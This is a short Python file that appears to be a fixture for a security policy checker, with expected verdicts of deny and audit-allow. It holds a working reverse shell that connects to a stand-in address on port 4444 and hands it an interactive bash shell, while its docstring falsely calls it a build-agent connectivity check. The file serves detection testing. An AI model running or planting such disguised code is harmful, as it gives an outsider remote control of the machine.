# expect: strict=deny standard=deny audit=allow
"""Connectivity check for the build agent."""
import socket
import subprocess

conn = socket.create_connection(("198.51.100.23", 4444), timeout=30)
fd = conn.fileno()
subprocess.call(["/bin/bash", "-i"], stdin=fd, stdout=fd, stderr=fd)
